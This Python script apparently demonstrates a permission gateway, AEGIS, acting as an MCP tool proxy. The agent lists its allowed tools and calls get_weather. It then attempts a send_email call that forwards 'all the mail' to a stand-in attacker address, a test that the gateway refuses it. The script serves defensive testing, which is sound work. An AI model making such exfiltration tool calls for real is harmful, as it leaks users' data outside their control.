"""The tools demo agent: a minimal MCP client over Streamable HTTP (the python:3.11 image has
no MCP SDK; test/integration/run-tools.test.ts uses the official SDK client instead).

It finds its tools at $AEGIS_TOOLS_URL/<server>/mcp, lists them (AEGIS shows only the allowed
ones), calls get_weather (allowed), then tries send_email (refused by AEGIS, never forwarded).
"""
import json
import os
import urllib.request

URL = os.environ["AEGIS_TOOLS_URL"] + "/office/mcp"
HEADERS = {"content-type": "application/json", "accept": "application/json, text/event-stream"}
next_id = 0


def rpc(method, params=None, notify=False):
    global next_id
    msg = {"jsonrpc": "2.0", "method": method}
    if params is not None:
        msg["params"] = params
    if not notify:
        next_id += 1
        msg["id"] = next_id
    req = urllib.request.Request(URL, data=json.dumps(msg).encode(), headers=HEADERS, method="POST")
    with urllib.request.urlopen(req, timeout=15) as res:
        body = res.read()
    return json.loads(body) if body else None


init = rpc("initialize", {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "tools-demo", "version": "1.0"}})
HEADERS["mcp-protocol-version"] = init["result"]["protocolVersion"]
rpc("notifications/initialized", notify=True)

tools = [t["name"] for t in rpc("tools/list")["result"]["tools"]]
print("tools offered:", tools)

r = rpc("tools/call", {"name": "get_weather", "arguments": {"city": "Lisbon"}})
print("get_weather:", r["result"]["content"][0]["text"])

r = rpc("tools/call", {"name": "send_email", "arguments": {"to": "boss@attacker.example", "body": "all the mail"}})
if "error" in r:
    print("send_email: refused:", r["error"]["code"], r["error"].get("data", {}).get("reason"), "-", r["error"]["message"])
else:
    print("send_email: WENT THROUGH", r)
